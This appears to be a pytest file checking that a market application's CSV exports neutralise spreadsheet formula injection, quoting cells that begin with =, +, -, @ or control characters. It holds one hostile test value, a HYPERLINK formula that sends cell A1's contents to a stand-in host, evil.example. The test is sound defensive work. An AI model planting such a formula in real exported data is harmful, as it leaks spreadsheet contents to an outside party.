"""CSV exports open in spreadsheets as data: a hostile name never becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from market.common.spreadsheet import csv_document, neutralise_formula
from tests.support.factories import Market
from tests.support.journey import Cast, contract_terms, ok, won_deal

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'


def test_an_organisation_named_as_a_formula_is_exported_as_text(
    client: TestClient, market: Market, cast: Cast
) -> None:
    hostile = market.broker(name=HYPERLINK, district="330203")
    deal = won_deal(
        client, Cast(cast.institute, cast.enterprise, hostile, cast.bureau, cast.outsider)
    )
    body = {**contract_terms(total_fen=5_000_000), "deal_id": deal["id"]}
    contract = ok(client.post("/contracts", json=body, headers=cast.institute.headers), 201)
    ok(client.post(f"/contracts/{contract['id']}/submit", headers=cast.institute.headers))
    ok(client.post(f"/contracts/{contract['id']}/register", headers=cast.bureau.headers))

    response = client.get(
        "/stats/breakdown/broker", params={"format": "csv"}, headers=cast.bureau.headers
    )

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    assert rows[1][0] == str(hostile.organization_id)
    assert rows[1][1] == "'" + HYPERLINK
    assert rows[1][3:] == ["5000000", "5000000", "50000.00", "50000.00"]


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+86 574", "'+86 574"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("宁波=1", "宁波=1"),
        ("-1050.00", "-1050.00"),  # a negative amount stays a number
        ("-5", "-5"),
        (-1050, "-1050"),
        (None, ""),
    ],
)
def test_formula_triggers_are_quoted_and_numbers_are_not(cell: object, exported: str) -> None:
    assert neutralise_formula(cell) == exported


def test_csv_document_quotes_every_cell_it_writes() -> None:
    text = csv_document([["name", "amount"], ["@evil", -5], ["ok", 7]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "amount"],
        ["'@evil", "-5"],
        ["ok", "7"],
    ]
    assert text.endswith("\r\n")
